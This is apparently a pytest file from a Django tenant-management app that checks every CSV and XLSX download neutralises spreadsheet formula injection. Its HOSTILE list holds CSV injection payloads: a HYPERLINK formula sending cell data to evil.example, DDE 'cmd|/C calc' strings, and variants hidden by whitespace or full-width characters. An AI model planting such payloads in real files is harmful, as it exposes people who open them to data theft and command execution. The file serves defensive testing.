"""No download can attack the person who opens it.

Every route that gives a CSV or XLSX file (found from the URL patterns, `file_routes.py`) is
requested in each of its formats, with hostile text in every free-text field that reaches it:
survey answers, question wording and codes, answer labels, the survey's references,
organisation, estate and indicator names, addresses, household references, notes. The real
file is opened (openpyxl, csv) and no cell may be a formula, an error value, or text that a
spreadsheet would run; the columns that hold figures and dates must hold numbers and dates.
"""

import csv
import io
import re
from dataclasses import dataclass, field
from datetime import date
from itertools import cycle
from urllib.parse import urlsplit

import pytest
from django.urls import resolve, reverse
from openpyxl import load_workbook

from tenantry.budgets.tests.factories import ledger_for_export
from tenantry.core.tests.file_routes import file_routes
from tenantry.democracy.models import Membership
from tenantry.democracy.tests.ballot_helpers import ballot_for_export
from tenantry.homes.models import Estate, Home, Household, Resident
from tenantry.indicators.exports import TSM_RETURN_HEADERS
from tenantry.indicators.models import Indicator
from tenantry.indicators.services.local import create_local_indicator
from tenantry.indicators.services.results import compute_results, enter_result
from tenantry.indicators.tests.performance_data import YEAR, hand_worked_repairs
from tenantry.organisations.models import Organisation
from tenantry.reports.models import PublicPage
from tenantry.surveys.models import Answer, Choice, Question, Response, Survey
from tenantry.surveys.tests.test_analysis import build_scenario

pytestmark = pytest.mark.django_db

# What a spreadsheet runs (OWASP, "CSV injection"), and what hides it.
ISSUE = '=HYPERLINK("http://evil.example/?d="&F2,"Click here")'
HOSTILE = [
    ISSUE,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=2+2",
    "\u00a0@SUM(A1)",
    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign
    "\uff0bcmd|' /C calc'!A0",
    "#N/A",  # an error value, in a workbook, unless written as text
]
RUNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def runs(text: str) -> bool:
    """Whether a spreadsheet could run this text (a neutralised cell starts with ')."""
    if text.startswith(("\t", "\r")):
        return True
    start = text.lstrip()
    return start.startswith(RUNS) and not PLAIN_NUMBER.fullmatch(start.strip())


@dataclass
class World:
    survey: Survey
    planted: list[str] = field(default_factory=list)


def _hostile_world(cast, *, figures: bool) -> World:
    """The cast with hostile text in every field a download shows; with the year's figures
    worked out from the records when the download shows them (which takes a while)."""
    texts = cycle(HOSTILE)
    planted = []

    def hostile(model=None, name: str = "") -> str:
        """The next hostile text, cut to what the model's field holds."""
        limit = model._meta.get_field(name).max_length if model else None
        text = next(texts)[:limit]
        planted.append(text)
        return text

    if figures:
        hand_worked_repairs(cast)
        compute_results(organisation=cast.landlord, period=YEAR)
    committee = cast.people["committee"]
    local = create_local_indicator(
        organisation=cast.tmo, name=ISSUE, meaning="Hostile", unit="number",
        higher_is_better=True, source="manual", config={}, decimals=0, by=committee,
    )  # fmt: skip
    enter_result(
        indicator=local, organisation=cast.tmo, period=YEAR, value=-5, by=committee,
        note=hostile(),
    )  # fmt: skip
    Indicator.objects.filter(pk=local.pk).update(name=hostile(Indicator, "name"))

    scenario = build_scenario(cast, anonymity=Survey.Anonymity.NAMED)
    survey = scenario.survey
    for organisation in (cast.tmo, cast.landlord):
        Organisation.objects.filter(pk=organisation.pk).update(name=hostile(Organisation, "name"))
    for estate in (scenario.kingsmead, scenario.larch):
        Estate.objects.filter(pk=estate.pk).update(name=hostile(Estate, "name"))
    Survey.objects.filter(pk=survey.pk).update(title=hostile(Survey, "title"))
    comments = scenario.questions["COMMENTS"]
    Question.objects.filter(pk=comments.pk).update(text=hostile(), code=hostile(Question, "code"))
    Question.objects.filter(pk=scenario.questions["TP01"].pk).update(text=hostile())
    Choice.objects.filter(question=scenario.questions["AGE"]).update(label=hostile(Choice, "label"))
    households = list(Household.objects.filter(home__estate=scenario.kingsmead)[:2])
    for response, household in zip(scenario.responses, households, strict=False):
        Response.objects.filter(pk=response.pk).update(
            household=household, source_reference=hostile(Response, "source_reference")
        )
        Household.objects.filter(pk=household.pk).update(reference=hostile(Household, "reference"))
        Home.objects.filter(pk=household.home_id).update(address=hostile(Home, "address"))
    # A member whose name, home and estate are hostile (the members register).
    resident = Resident.objects.create(household=households[0], name=hostile(Resident, "name"))
    Membership.objects.create(
        organisation=cast.tmo, resident=resident, household=households[0], joined_by="paper",
        status="member", number=1, applied_on=date(2025, 1, 6), joined_on=date(2025, 1, 20),
        share_paid_pence=100, share_paid_on=date(2025, 1, 20),
    )  # fmt: skip
    # The issue's own answer, and one with a control character an XLSX file cannot hold.
    Answer.objects.filter(question=comments).update(text=ISSUE)
    Answer.objects.create(
        response=scenario.responses[1], question=comments, text=hostile() + "\x0b pasted"
    )
    planted.append(ISSUE)
    return World(survey, planted)


@dataclass
class Export:
    """How to ask a route for its file, and which columns of its first sheet must be typed."""

    role: str
    arguments: dict = field(default_factory=dict)
    query: dict = field(default_factory=dict)
    numbers: tuple[str, ...] = ()
    dates: tuple[str, ...] = ()
    datetimes: tuple[str, ...] = ()
    hostile: bool = True  # whether any free text reaches the file
    figures: bool = False  # whether it shows the indicators' figures


def _survey(world: World) -> int:
    return world.survey.pk


def _ledger(world: World) -> int:
    """A budget whose ledger's descriptions and references are hostile."""
    texts = [HOSTILE[0][:300], HOSTILE[1][:300]]
    world.planted.extend([texts[0], texts[1], texts[1][:60]])
    return ledger_for_export(world.survey.organisation, texts)


def _published_year(world: World) -> str:
    """The year of the figures, with the organisation's page published: the open data of the
    API is for organisations that publish (reports.publication)."""
    PublicPage.objects.update_or_create(
        organisation=world.survey.organisation, defaults={"published": True}
    )
    return "2025-26"


EXPORTS = {
    # The open data of the API, for anyone (docs/api.md#open-data).
    "api:open-data-tsm-return": Export(
        "anonymous", {"year": _published_year}, figures=True, numbers=(TSM_RETURN_HEADERS[25],)
    ),
    "api:open-data-indicator": Export(
        "anonymous",
        {"year": _published_year, "code": lambda world: "RP02-2"},
        figures=True,
        numbers=("Numerator", "Denominator", "Value"),
        dates=("Period starts", "Period ends"),
        datetimes=("Worked out at",),
    ),
    "surveys:export-results": Export(
        "committee", {"pk": _survey}, numbers=("Question number", "Answered", "Percent")
    ),
    "surveys:export-responses": Export(
        "committee", {"pk": _survey}, numbers=("Response", "PEOPLE"), dates=("Date",)
    ),
    "surveys:import-responses-template": Export("committee", {"pk": _survey}),
    "indicators:export-results": Export(
        "committee",
        figures=True,
        query={"period": YEAR.label},
        numbers=("Numerator", "Denominator", "Value"),
        dates=("Period starts", "Period ends"),
        datetimes=("Worked out at",),
    ),
    "indicators:export-tsm-return": Export(
        "committee",
        figures=True,
        query={"period": YEAR.label},
        # The proportion of emergency repairs completed in time (RP02 2).
        numbers=(TSM_RETURN_HEADERS[25],),
    ),
    "democracy:export-register": Export(
        "committee",
        numbers=("Membership number", "Share paid (£)"),
        dates=("Applied on", "Became a member on", "Share paid on"),
    ),
    # The roll and marked register of a ballot, without votes (docs/ballots.md).
    "democracy:export-marked-register": Export(
        "committee",
        {"pk": lambda world: ballot_for_export(world.survey.organisation)},
        numbers=("Voter",),
        dates=("Voted on",),
    ),
    # A budget's ledger for the organisation's accountant (docs/budgets.md).
    "budgets:ledger-workbook": Export(
        "committee",
        {"pk": _ledger},
        numbers=("Money in, £", "Money out, £", "Balance, £"),
        dates=("Date",),
    ),
    # Its columns are ours, fixed in the code: no free text reaches it.
    "services:import-template": Export("staff", {"kind": lambda world: "repairs"}, hostile=False),
}


# Files prepared in the background are downloaded from one route: the tests below ask for each
# kind that writes a spreadsheet through it.
PREPARED = "organisations:download-prepared-file"


def test_every_route_that_gives_a_file_is_checked_here():
    assert set(file_routes()) == set(EXPORTS) | {PREPARED}


def _formats(name: str) -> list[str]:
    route = file_routes()[name]
    return ["csv", "xlsx"] if "fmt>" in route else [route.rsplit(".", 1)[-1]]


CASES = [(name, fmt) for name in sorted(EXPORTS) for fmt in _formats(name)]


def _csv_sheet(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _check_csv(rows: list[list[str]], export: Export) -> list[str]:
    texts = [value for row in rows for value in row]
    assert not [text for text in texts if runs(text)]
    headings = rows[0]
    for heading, pattern in [
        *((h, r"-?\d+(\.\d+)?") for h in export.numbers),
        *((h, r"\d{4}-\d{2}-\d{2}") for h in export.dates),
        *((h, r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}") for h in export.datetimes),
    ]:
        column = [row[headings.index(heading)] for row in rows[1:]]
        filled = [value for value in column if value != ""]
        assert filled, heading
        assert all(re.fullmatch(pattern, value) for value in filled), (heading, filled)
    return texts


def _check_xlsx(content: bytes, export: Export) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not runs(cell.value), (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    sheet = book.worksheets[0]
    headings = [cell.value for cell in sheet[1]]
    for heading, kinds in [
        *((h, (int, float)) for h in export.numbers),
        *((h, (date,)) for h in (*export.dates, *export.datetimes)),
    ]:
        cells = [row[headings.index(heading)] for row in sheet.iter_rows(min_row=2)]
        filled = [cell for cell in cells if cell.value is not None and cell.value != ""]
        assert filled, heading
        for cell in filled:
            assert isinstance(cell.value, kinds), (heading, cell.coordinate, cell.value)
            if kinds == (date,):
                assert cell.is_date, (heading, cell.coordinate)
            else:
                assert cell.data_type == "n", (heading, cell.coordinate)
    return texts


@pytest.mark.parametrize(("name", "fmt"), CASES, ids=[f"{n}-{f}" for n, f in CASES])
def test_no_cell_of_any_download_runs(cast, client_as, name, fmt):
    export = EXPORTS[name]
    world = _hostile_world(cast, figures=export.figures)
    kwargs = {key: make(world) for key, make in export.arguments.items()}
    if "fmt>" in file_routes()[name]:
        kwargs["fmt"] = fmt
    url = reverse(name, kwargs={"slug": cast.tmo.slug, **kwargs})

    response = client_as(cast.people[export.role]).get(url, export.query)

    assert response.status_code == 200
    _check_download(response, name, fmt, export, world)


def _check_download(response, name: str, fmt: str, export: Export, world: World) -> None:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert response["Content-Type"].startswith("text/csv")
        texts = _check_csv(_csv_sheet(content), export)
    else:
        texts = _check_xlsx(content, export)
    neutralised = {text[1:] for text in texts if text.startswith("'")}
    if export.hostile:
        # The hostile text did reach the file, made inert.
        assert neutralised & {text.replace("\x0b", "") for text in world.planted}
    if name == "surveys:export-responses":
        assert ISSUE in neutralised


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_cell_of_a_download_prepared_in_the_background_runs(
    cast, client_as, settings, django_capture_on_commit_callbacks, fmt
):
    settings.SURVEY_RESPONSES_IN_BACKGROUND = 1  # every responses download is prepared
    name = "surveys:export-responses"
    export = EXPORTS[name]
    world = _hostile_world(cast, figures=False)
    client = client_as(cast.people[export.role])
    url = reverse(name, kwargs={"slug": cast.tmo.slug, "pk": world.survey.pk, "fmt": fmt})

    with django_capture_on_commit_callbacks(execute=True):
        asked = client.get(url)

    assert asked.status_code == 302
    prepared = resolve(urlsplit(asked.url).path)
    assert prepared.view_name == "organisations:prepared-file"
    response = client.get(reverse(PREPARED, kwargs=prepared.kwargs))
    assert response.status_code == 200
    _check_download(response, name, fmt, export, world)
